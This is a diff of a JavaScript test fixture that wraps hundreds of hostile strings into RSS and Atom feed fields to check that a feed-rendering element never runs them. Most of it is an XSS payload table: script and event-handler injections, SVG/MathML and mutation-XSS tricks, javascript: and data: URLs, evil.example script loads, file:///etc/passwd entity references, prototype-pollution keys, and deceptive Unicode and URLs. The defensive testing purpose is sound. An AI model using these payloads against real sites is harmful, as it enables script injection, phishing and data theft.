@@ -1,4 +1,4 @@
-// What a feed can attack a page with, and where in a feed it can stand. Each payload that runs sets `hit`; none may.
+// Hostile texts, and their places in a feed. Each that runs sets `hit`. Invisible characters are JavaScript escapes.
 // The characters that cannot be seen are written as references of JavaScript, so that this file can be read.
 
 const raw = String.raw;
@@ -8,51 +8,33 @@ export const PAYLOADS = {
   scripts: [
     '<script>hit=1</script>',
     '<SCRIPT>hit=1</SCRIPT>',
-    '<ScRiPt >hit=1</sCrIpT >',
-    '<script/x>hit=1</script>',
-    '<script\n>hit=1</script\n>',
     '<script\f>hit=1</script\f>',
     '<script type="module">hit=1</script>',
-    '<script src="https://evil.example/x.js"></script>',
     '<script src=//evil.example/x.js></script>',
     '<script src="data:text/javascript,hit=1"></script>',
     '<script>hit=1',
     '<script>hit=1//',
-    '<script>hit=1<!--',
-    '<script><!--\nhit=1\n--></script>',
     '<script <b>hit=1</script>',
     '<<script>hit=1//<</script>',
     '<scr<script>ipt>hit=1</scr</script>ipt>',
-    '<scr<b>ipt>hit=1</scr</b>ipt>',
-    '<scr<!-- -->ipt>hit=1</scr<!-- -->ipt>',
     '</script><script>hit=1</script>',
     '</title><script>hit=1</script>',
     '</textarea></style></noscript><script>hit=1</script>',
-    '<a:script xmlns:a="http://www.w3.org/1999/xhtml">hit=1</a:script>',
     '<script xmlns="http://www.w3.org/1999/xhtml">hit=1</script>',
-    '<html:script>hit=1</html:script>',
     '<script type="importmap">{"imports":{"lit":"https://evil.example/"}}</script>',
     '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
   ],
   'event attributes': [
     '<img src=x onerror=hit=1>',
     '<img src="x" onerror="hit=1">',
-    '<img/src=x/onerror=hit=1>',
     '<img src=x:x onerror\n=\nhit=1>',
     '<img src=x onerror=hit=1//',
-    '<img src=x oNeRrOr=hit=1>',
     '<img """><script>hit=1</script>">',
     '<img src=`x`onerror=hit=1>',
-    '<img srcset=x onerror=hit=1>',
-    '<image src=x onerror=hit=1>',
     '<body onload=hit=1 onpageshow=hit=1 onhashchange=hit=1>',
-    '<p onpointerrawupdate=hit=1 onbeforematch=hit=1 hidden=until-found>x',
     '<b onmouseover=hit=1 onfocus=hit=1 autofocus tabindex=0>x</b>',
     '<input autofocus onfocus=hit=1>',
-    '<select autofocus onfocus=hit=1>',
     '<details open ontoggle=hit=1><summary>x</summary></details>',
-    '<video src=x onerror=hit=1><source onerror=hit=1></video>',
-    '<audio autoplay src=x onerror=hit=1 onloadstart=hit=1>',
     '<marquee onstart=hit=1>x</marquee>',
     '<div style="animation:a 1s" onanimationstart=hit=1>x</div>',
     '<dialog open oncancel=hit=1><button popovertarget=x>x</button></dialog>',
@@ -62,22 +44,17 @@ export const PAYLOADS = {
   ],
   'svg and math': [
     '<svg onload=hit=1>',
-    '<svg/onload=hit=1>',
     '<svg><script>hit=1</script></svg>',
     '<svg><script href="data:text/javascript,hit=1"/></svg>',
-    '<svg><script xlink:href="https://evil.example/x.js"/></svg>',
     '<svg><a xlink:href="javascript:hit=1"><text y="9">x</text></a></svg>',
     '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
     '<svg><a><animate attributeName=href values=javascript:hit=1 /><text y=9>x</text></a></svg>',
-    '<svg><set attributeName=onmouseover to=hit=1>',
     '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>',
     '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=hit=1 /></svg>#x">',
     '<svg><image href="https://evil.example/x.png"/></svg>',
     '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit=1</handler></svg>',
     '<math href="javascript:hit=1">x</math>',
-    '<math><mi xlink:href="javascript:hit=1">x</mi></math>',
     '<math><annotation-xml encoding="text/html"><img src=x onerror=hit=1></annotation-xml></math>',
-    '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:hit=1">x</maction></math>',
   ],
   'markup that changes when it is read again': [
     '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
@@ -85,21 +62,15 @@ export const PAYLOADS = {
     '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
     '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>',
     '<svg><title><style><img title="</style><img src=x onerror=hit=1>"></title></svg>',
-    '<textarea><img title="</textarea><img src=x onerror=hit=1>">',
-    '<xmp><p title="</xmp><img src=x onerror=hit=1>">',
-    '<noembed><p title="</noembed><img src=x onerror=hit=1>">',
     '<plaintext><img src=x onerror=hit=1>',
-    '<table><td background="javascript:hit=1"><caption><script>hit=1</script>',
     '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hit=1>">',
     '<a href="&#x3c;/a&#x3e;&#x3c;img src=x onerror=hit=1&#x3e;">x</a>',
     '<p id="&lt;/p&gt;&lt;script&gt;hit=1&lt;/script&gt;">',
-    '<listing>&lt;img src=x onerror=hit=1&gt;</listing>',
     '<img title="`><img src=x onerror=hit=1>`">',
   ],
   'templates and shadow roots': [
     '<template><script>hit=1</script></template>',
     '<div><template shadowrootmode="open"><script>hit=1</script><slot></slot></template></div>',
-    '<template shadowrootmode=closed><img src=x onerror=hit=1></template>',
     '<slot name="heading" onslotchange=hit=1>x</slot>',
     '<p slot="error">x</p>',
     '<diary-feed src="https://evil.example/feed.xml" heading="x"></diary-feed>',
@@ -109,147 +80,98 @@ export const PAYLOADS = {
   'style and resources': [
     '<style>*{display:none!important}</style>',
     '<style>@import "https://evil.example/x.css";</style>',
-    '<style>:host{background:url(https://evil.example/x)}</style>',
     '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
-    '<p style="behavior:url(x.htc);-moz-binding:url(x);width:expression(hit=1)">x</p>',
     '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<link rel=preload as=script href=https://evil.example/x.js>',
-    '<link rel=dns-prefetch href=//evil.example>',
     '<base href="https://evil.example/">',
     '<base target="_top">',
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=javascript:hit=1">',
     '<meta http-equiv="Content-Security-Policy" content="default-src *">',
-    '<meta http-equiv="Set-Cookie" content="hit=1">',
     '<meta charset="utf-7">+ADw-script+AD4-hit=1+ADw-/script+AD4-',
     '<iframe src="javascript:parent.hit=1"></iframe>',
-    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
     '<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>',
     '<frameset onload=hit=1><frame src="javascript:parent.hit=1"></frameset>',
     '<object data="javascript:hit=1"></object>',
-    '<object type="text/html" data="data:text/html,<script>parent.hit=1</script>"></object>',
     '<embed src="javascript:hit=1">',
-    '<applet code="x.class" archive="https://evil.example/x.jar"></applet>',
-    '<portal src="https://evil.example/" onload=hit=1></portal>',
-    '<fencedframe></fencedframe>',
     '<form action="javascript:hit=1"><button>x</button></form>',
-    '<button form="x" formaction="javascript:hit=1">x</button>',
-    '<isindex action="javascript:hit=1" type=image>',
     '<video poster="https://evil.example/x"><track src="https://evil.example/x.vtt" default></video>',
     '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
-    '<picture><source srcset="https://evil.example/x.png"><img src="x"></picture>',
-    '<body background="https://evil.example/x.png">',
     '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
     '<a href="javascript:hit=1">x</a>',
     '<a href=" &#14; javascript:hit=1" target=_blank>x</a>',
-    '<area href="javascript:hit=1" shape="default">',
   ],
   'encoded more than once': [
     '&lt;script&gt;hit=1&lt;/script&gt;',
     '&amp;lt;script&amp;gt;hit=1&amp;lt;/script&amp;gt;',
-    '&amp;amp;lt;img src=x onerror=hit=1&amp;amp;gt;',
     '&#60;script&#62;hit=1&#60;/script&#62;',
-    '&#x3c;script&#x3E;hit=1&#X3C;/script&#x3e;',
     '&#60script&#62hit=1&#60/script&#62',
-    '&#0000060img src=x onerror=hit=1&#0000062',
     '&ltscript&gthit=1&lt/script&gt',
-    '&LT;script&GT;hit=1&LT;/script&GT;',
     '&bnot;&lt;img src=x onerror=hit=1>',
     '<img src=x onerror="&#104;it=1">',
-    '<a href="java&#115;cript:hit=1">x</a>',
     '<a href="javascript&colon;hit=1">x</a>',
     '<a href="java&Tab;script&colon;hit=1">x</a>',
     '%3Cscript%3Ehit=1%3C/script%3E',
     raw`\u003cscript\u003ehit=1\u003c/script\u003e`,
-    raw`\x3cscript\x3ehit=1\x3c/script\x3e`,
     '+ADw-script+AD4-hit+AD0-1+ADw-/script+AD4-',
-    '\u00bcscript\u00behit=1\u00bc/script\u00be',
     '\uff1cscript\uff1ehit=1\uff1c/script\uff1e',
-    'Ã¥&lt;script&gt;hit=1&lt;/script&gt;',
     'PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
   ],
   'controls in markup': [
     '<scr\0ipt>hit=1</scr\0ipt>',
     '<\0script>hit=1</script>',
-    '<script\0>hit=1</script>',
     '<im\u0001g src=x onerror=hit=1>',
     '<img\u000bsrc=x\u000bonerror=hit=1>',
-    '<img src=x onerror\u0000=hit=1>',
-    '<scr\u00adipt>hit=1</scr\u00adipt>',
     '<scr\u200bipt>hit=1</scr\u200bipt>',
     '<scr\ufeffipt>hit=1</scr\ufeffipt>',
-    '<scr\ufdd0ipt>hit=1</scr\ufdd0ipt>',
     '\ufdd0script>hit=1\ufdd0/script>',
-    '<\u2028script>hit=1</script>',
     '<script\u00a0>hit=1</script>',
     '&#0;<script>hit=1</script>&#xD800;',
     '\u001b]0;hit\u0007\u009b31m',
-    '<\u017fcript>hit=1</\u017fcript>',
-    '<\u0130mg src=x onerror=hit=1>',
   ],
   'breaks of XML': [
     ']]><script>hit=1</script>',
     ']]>]]&gt;<![CDATA[<script>hit=1</script>]]>',
     '<![CDATA[<script>hit=1</script>]]>',
-    '<![CDATA[<script>hit=1</script>',
     '<![CDATA[<script>]]>hit=1<![CDATA[</script>]]>',
     '<![CDATA[<]]>script>hit=1<![CDATA[<]]>/script>',
-    '<![cdata[<script>hit=1</script>]]>',
     '<!--><script>hit=1</script>-->',
-    '<!---><script>hit=1</script>-->',
     '<!-- --!><script>hit=1</script> -->',
-    '<!-- -- ><script>hit=1</script> -->',
     '<!--<script>hit=1</script>',
     '<!--[if gte IE 4]><script>hit=1</script><![endif]-->',
     '<![if true]><script>hit=1</script><![endif]>',
-    '<!DOCTYPE x [<!ENTITY y "<script>hit=1</script>">]>&y;',
-    '<!ENTITY y SYSTEM "file:///etc/passwd">&y;',
     '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
     '<?php echo "<script>hit=1</script>" ?>',
     '<?><script>hit=1</script>?>',
     '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
-    '<x:x xmlns:x="javascript:hit=1" x:href="javascript:hit=1">x</x:x>',
     '</item></channel></rss><script>hit=1</script>',
     '</item><item><title>x</title><link>javascript:hit=1</link></item><item>',
     '</title><link>javascript:hit=1</link><title>',
-    '<link>javascript:hit=1</link>',
     '<item><item><item>',
     '<html><body><script>hit=1</script>',
     '<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="javascript:hit=1"/></entry></feed>',
   ],
   'breaks of an attribute': [
     '"><script>hit=1</script>',
-    "'><script>hit=1</script>",
     '" onmouseover="hit=1',
     "' onmouseover='hit=1",
-    '` onmouseover=`hit=1',
-    'x onmouseover=hit=1',
     '"/><img src=x onerror=hit=1>',
     '"><svg onload=hit=1>',
     '" autofocus onfocus="hit=1" x="',
-    '" style="position:fixed;inset:0" x="',
     '" xml:base="javascript:hit=1//" x="',
     '"',
-    "'",
     '">',
     '<x a="b',
-    "<x a='b",
     '<a href="https://bank.example" href="javascript:hit=1">x</a>',
   ],
   'marks of templates and languages': [
     '${hit=1}',
     '${(()=>{hit=1})()}',
-    '{{constructor.constructor("hit=1")()}}',
     '#{hit=1}',
-    '<%= hit=1 %>',
     '<!--?lit$123456789$-->',
     '<!--?lit$0$--><?lit$0$>',
     '<?lit$123456789$>',
-    'lit$0$',
     '<!--lit-part--><!--/lit-part-->',
     '<p class$lit$="x" @click="hit=1" .inner="x" ?hidden="x">x</p>',
     '{"_$litType$":1,"strings":["<img src=x onerror=hit=1>"],"values":[]}',
-    '@click=hit=1 .innerHTML=<script>hit=1</script>',
     'javascript:/*--></title></style></textarea></script><svg/onload=hit=1>',
     raw`jaVasCript:/*-/*\`/*\'/*"/**/(/* */oNcliCk=hit=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=hit=1//>\x3e`,
   ],
@@ -257,241 +179,140 @@ export const PAYLOADS = {
     '__proto__',
     'constructor',
     'constructor.prototype',
-    'prototype',
     '__defineGetter__',
-    'hasOwnProperty',
     'toString',
-    'valueOf',
     'then',
     'toJSON',
-    '<__proto__>x</__proto__>',
     '<__proto__ hit="1"><constructor><prototype hit="1"/></constructor></__proto__>',
     '<constructor prototype="x" __proto__="y">x</constructor>',
-    '<p __proto__="x" constructor="y" toString="z">x</p>',
     '<__proto__:title xmlns:__proto__="http://purl.org/dc/elements/1.1/">x</__proto__:title>',
     '<x xmlns:constructor="__proto__" constructor:__proto__="x"/>',
     '<hasownproperty/><valueof/><tostring/>',
     '{"__proto__":{"hit":1}}',
-    '<then>x</then>',
   ],
   'clobbering of names': [
     '<p id="date-0">x</p>',
     '<a id="hit"></a><a id="hit" name="hit"></a>',
     '<form id="recorded"><input name="errors"></form>',
     '<img name="cookie"><img name="body"><img name="getElementById">',
-    '<form name="customElements"><input name="get"></form>',
     '<iframe name="self"></iframe><iframe name="top"></iframe>',
     '<a id="litHtmlVersions" href="x">x</a>',
-    '<input id="attributes"><input name="childNodes">',
     'date-0',
   ],
   'custom elements': [
     '<diary-feed></diary-feed>',
     '<x-hit onload=hit=1></x-hit>',
-    '<annotation-xml>x</annotation-xml>',
     '<font-face><script>hit=1</script></font-face>',
   ],
   'text that deceives': [
     '\u202egnp.exe\u202c',
-    '\u202ahej\u202bhej\u202dhej\u202ehej',
     '\u2066hej\u2067hej\u2068hej',
-    '\u202e\u2067\u202e\u2067hej',
     '\u2069\u2069\u2069\u202c\u202c\u202chej',
     '&#8238;hej&#x2067;hej',
-    '\u200fhej\u200ehej\u061chej',
-    '\u05d0\u05d1\u05d2 hej \u05d3\u05d4',
     'h\u200be\u200cj\u200d\u2060\ufeff',
     '\u200b\u2060\ufeff',
     '\u115f\u1160\u3164\uffa0',
     '\u0435vil \u0430pple \u03bf',
     'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319',
     '\ud83d',
-    '\udc00\ud800',
-    '\ufff9x\ufffay\ufffb',
     '\u{e0001}\u{e0068}\u{e0069}\u{e0074}',
     '\ufffe\uffff\u{1ffff}',
     '\u2028\u2029\u0085',
     '',
-    ' ',
-    '&nbsp;',
   ],
   'addresses that run': [
     'javascript:hit=1',
     'JaVaScRiPt:hit=1',
-    ' javascript:hit=1',
     '\u0001javascript:hit=1',
-    '\u001fjavascript:hit=1',
     'java\tscript:hit=1',
     'java\nscript:hit=1',
-    'java\rscript:hit=1',
-    'javascript\t:hit=1',
     'javascript&colon;hit=1',
     'javascript&#58;hit=1',
-    'javascript&#x3a;hit=1',
     'javascript&#0000058hit=1',
     'java&#9;script:hit=1',
-    'java&#x0A;script:hit=1',
     '&#1;javascript:hit=1',
-    'j&#97v&#97script:hit=1',
     'javascript%3Ahit=1',
     'javascript:%0ahit=1',
-    'javascript://bank.example/%0ahit=1',
-    'javascript://https://bank.example/%0ahit=1',
     'javascript:"https://bank.example/";hit=1',
     'javascript\0:hit=1',
-    '\u00a0javascript:hit=1',
     '\u200bjavascript:hit=1',
-    '\u202ejavascript:hit=1',
     '\uff4aavascript:hit=1',
-    'javascript\uff1ahit=1',
     'feed:javascript:hit=1',
-    'view-source:javascript:hit=1',
-    'jar:javascript:hit=1!/',
-    'livescript:hit=1',
-    'mocha:hit=1',
     'vbscript:hit=1',
     'data:text/html,<script>hit=1</script>',
     'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
     'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit=1"/>',
-    'DATA:,x',
-    'data&colon;text/html,x',
   ],
   'addresses that lead elsewhere': [
     'blob:https://dagbok.example/0',
     'file:///etc/passwd',
-    'file://evil.example/x',
-    'filesystem:https://dagbok.example/temporary/x',
     'view-source:https://dagbok.example/',
     'about:blank',
-    'about:srcdoc',
     'ws://evil.example/',
-    'wss://evil.example/',
     'ftp://evil.example/',
-    'gopher://evil.example/',
     'intent://evil.example/#Intent;scheme=https;end',
-    'ms-word:ofe|u|https://evil.example/x.docx',
-    'search-ms:query=x',
     'mailto:a@evil.example',
     'tel:112',
-    'sms:112',
-    'chrome://settings',
-    'resource://x',
     'moz-extension://x/',
-    'urn:x',
-    'cid:x',
-    'tag:evil.example,2026:x',
-    'blob:null/0',
-    'http+unix://x/',
     'https',
-    ':',
-    '://evil.example',
     'https:',
     'https://',
-    'https:///',
     'http://[',
-    'http://[::1',
     'https://%',
-    'https://a b/',
-    'https://\u0000/',
   ],
   'addresses that deceive': [
     'https://bank.example@evil.example/',
-    'https://bank.example:443@evil.example/',
     'https://bank.example%40evil.example/',
-    'https://bank.example%2f@evil.example/',
     raw`https://bank.example\@evil.example/`,
     raw`https:\\evil.example\x`,
-    raw`https://evil.example\.bank.example/`,
     'https://@evil.example/',
-    'https://:@evil.example/',
     'https://user:pass@dagbok.example/',
-    'https://b\u0430nk.example@evil.example/',
     '//evil.example/x',
-    '///evil.example/x',
-    '////evil.example/x',
     raw`/\evil.example/x`,
     raw`\\evil.example\x`,
-    raw`\/evil.example`,
     '/\t/evil.example/x',
-    '/\n/evil.example/x',
     'https:evil.example',
-    'https:/evil.example',
-    'http:evil.example',
     'ht\ntps://evil.example/',
-    'https://evil\t.example/',
     'https://bank.example\u3002evil.example/',
-    'https://bank.example\uff0eevil.example/',
-    'https://bank.example\uff61evil.example/',
     'https://\uff45\uff56\uff49\uff4c.example/',
-    'https://evil.\u24d4xample/',
-    'https://bank.example\u2044path.evil.example/',
     'https://bank.example\u2215path.evil.example/',
-    'https://bank.example\uff0fevil.example/',
-    'https://bank.example\uff03evil.example/',
-    'https://bank.example\uff20evil.example/',
     'https://bank.example\u200b.evil.example/',
-    'https://bank.example\u00ad.evil.example/',
     'https://bank.example\u202e.evil.example/',
     'https://b\u0430nk.example/',
     'https://xn--bnk-5cd.example/',
-    'https://xn--a/',
-    'https://xn--.example/',
     'https://%65vil.example/',
-    'https://%E2%80%AE.example/',
     'https://evil.example%00.bank.example/',
-    'https://evil.example%23.bank.example/',
-    'https://2130706433/',
     'https://0x7f.1/',
-    'https://017700000001/',
-    'https://127.1/',
     'https://[::1]/',
-    'https://[::ffff:127.0.0.1]/',
-    'https://0/',
     'https://evil.example:80443/',
-    'https://evil.example:-1/',
     'https://evil.example:00443/',
-    'http://evil.example:443/',
-    'https://evil.example:https/',
     'https://evil.example./',
-    'https://evil..example/',
-    'https://-evil.example/',
-    'https://evil_.example/',
-    'https://evil.example#@bank.example/',
     'https://evil.example?@bank.example/',
-    'https://evil.example;bank.example/',
-    'https://evil.example&#64;bank.example/',
-    'https://evil.example/https://bank.example/',
     'https://evil.example/\u202ehtml.exe',
     'https://evil.example/?next=javascript:hit=1#javascript:hit=1',
     `https://evil.example/${'a'.repeat(5000)}`,
     `https://${'a.'.repeat(130)}example/`,
     'https://dagbok.example/"onmouseover="hit=1',
-    "https://dagbok.example/'onmouseover='hit=1",
     'https://dagbok.example/><script>hit=1</script>',
-    'https://dagbok.example/ javascript:hit=1',
-    'https://dagbok.example/../../../../etc/passwd',
-    '?javascript:hit=1',
-    '#javascript:hit=1',
-    '.',
   ],
 };
 
-/** Entries that an element shows at most at once. */
-const SHOWN = 50;
+/** Maximum number of visible entries of an element. */
+const MAX_VISIBLE = 50;
 
-/** Markup as text: what a program that knows XML writes. */
+/** Escapes markup as an XML library does. */
 const escape = (text) => text.replace(/[<>&"]/g, (character) => `&#${character.charCodeAt(0)};`);
 
-/** How a payload gets into XML. */
+/** Ways to write a payload into XML. */
 const WRAPS = {
   escaped: escape,
   'in CDATA': (text) => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`,
   'escaped twice': (text) => escape(escape(text)),
-  'as it is': (text) => text,
+  unchanged: (text) => text,
 };
 
-/** Whether what is wrapped so cannot spill into its neighbours. */
-const isContained = (wrap) => wrap !== 'as it is';
+/** Returns whether a payload with this wrap can't affect its neighbors. */
+const isContained = (wrap) => wrap !== 'unchanged';
 
 const element = (name) => (text) => `<${name}>${text}</${name}>`;
 const inAttribute =
@@ -500,7 +321,7 @@ const inAttribute =
     `${before}"${text}"${after}`;
 const around = (before, after) => (text) => `${before}${text}${after}`;
 
-/** Where in an item of RSS a payload stands. */
+/** Places of a payload in an RSS item. */
 const ITEM_FIELDS = {
   title: element('title'),
   link: element('link'),
@@ -512,7 +333,7 @@ const ITEM_FIELDS = {
   description: element('description'),
   'content:encoded': element('content:encoded'),
   author: element('author'),
-  'author with address': around('<author>a@b.example (', ')</author>'),
+  'author with e-mail': around('<author>a@b.example (', ')</author>'),
   'dc:creator': element('dc:creator'),
   category: element('category'),
   'category in an attribute': inAttribute('<itunes:category text='),
@@ -537,12 +358,12 @@ const ITEM_FIELDS = {
   'name of an attribute': (text) => `<category ${text}="x">x</category>`,
   'prefix of a namespace': (text) =>
     `<${text}:title xmlns:${text}="http://purl.org/dc/elements/1.1/">x</${text}:title>`,
-  'address of a namespace': inAttribute('<title xmlns=', '>x</title>'),
+  'URL of a namespace': inAttribute('<title xmlns=', '>x</title>'),
   'comment of XML': around('<!-- ', ' -->'),
   instruction: around('<?x ', '?>'),
 };
 
-/** Where in an entry of Atom. */
+/** Places in an Atom entry. */
 const ENTRY_FIELDS = {
   'Atom title': element('title'),
   'Atom title, text': around('<title type="text">', '</title>'),
@@ -565,7 +386,7 @@ const ENTRY_FIELDS = {
   'Atom published': element('published'),
 };
 
-/** Where around the items; the feed is whole otherwise. */
+/** Places outside the entries, in an otherwise complete feed. */
 const FEED_FIELDS = {
   'title of the feed': { channel: element('title') },
   'link of the feed': { channel: element('link') },
@@ -590,7 +411,7 @@ const NAMESPACES =
   'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" ' +
   'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"';
 
-/** What an entry says where nothing hostile says it before. */
+/** Further content of an entry. */
 const ITEM = '<title>Hej</title><link>hej</link><description>Text</description>';
 
 const FORMATS = {
@@ -612,20 +433,20 @@ function rss({ before = '', root = '', head = '', channel = '', foot = '', after
 
 const countOf = (fields) => Object.keys(fields).length;
 
-/** How many there are. */
+/** Numbers for the report. */
 export const COUNTS = {
   payloads: Object.values(PAYLOADS).flat().length,
   fields: countOf(ITEM_FIELDS) + countOf(ENTRY_FIELDS) + countOf(FEED_FIELDS),
   wraps: countOf(WRAPS),
 };
 
-/** Each payload meets every field, and each wrap meets every payload and every field: four times fewer tries than all three. */
+/** Each payload is tried in every field, and each wrap with every payload and every field. */
 function wrapAt(payloadIndex, fieldIndex) {
   const wraps = Object.keys(WRAPS);
   return wraps[(payloadIndex + fieldIndex) % wraps.length];
 }
 
-/** Entries that hold one payload in one field each. */
+/** Returns entries with one payload in one field each. */
 function entriesOf(payload, payloadIndex, { fields, entryOf }) {
   return Object.entries(fields).map(([field, place], fieldIndex) => {
     const wrap = wrapAt(payloadIndex, fieldIndex);
@@ -637,7 +458,7 @@ function entriesOf(payload, payloadIndex, { fields, entryOf }) {
   });
 }
 
-/** A feed that holds one payload in the fields of these names around its one entry. */
+/** Returns a feed with one payload in these fields outside its entry. */
 function surroundings(payload, payloadIndex, fields) {
   const places = { channel: '' };
   const allFields = Object.keys(FEED_FIELDS);
@@ -650,11 +471,11 @@ function surroundings(payload, payloadIndex, fields) {
   return { what: `${JSON.stringify(payload)} in ${fields.join(', ')}`, markup: rss(places) };
 }
 
-/** Feeds of as many entries as an element shows; each knows the feeds that try the same one by one. */
+/** Returns feeds with as many entries as an element shows. `alone` has each entry in a separate feed. */
 function batches(entries, { feedOf }) {
   const feeds = [];
-  for (let start = 0; start < entries.length; start += SHOWN) {
-    const batch = entries.slice(start, start + SHOWN);
+  for (let start = 0; start < entries.length; start += MAX_VISIBLE) {
+    const batch = entries.slice(start, start + MAX_VISIBLE);
     feeds.push({
       markup: feedOf(batch.map(({ markup }) => markup).join('')),
       count: batch.length,
@@ -665,8 +486,8 @@ function batches(entries, { feedOf }) {
 }
 
 /**
- * The feeds that try every payload of a family in every field: `count` entries each, unless a payload that stands there as it is
- * takes its neighbours with it. Then the feeds in `alone` try each by itself.
+ * Returns feeds with every payload of a family in every field, with `count` entries each, unless a payload removes its neighbors.
+ * The feeds in `alone` contain one entry each.
  */
 export function feedsOf(family) {
   const feeds = [];
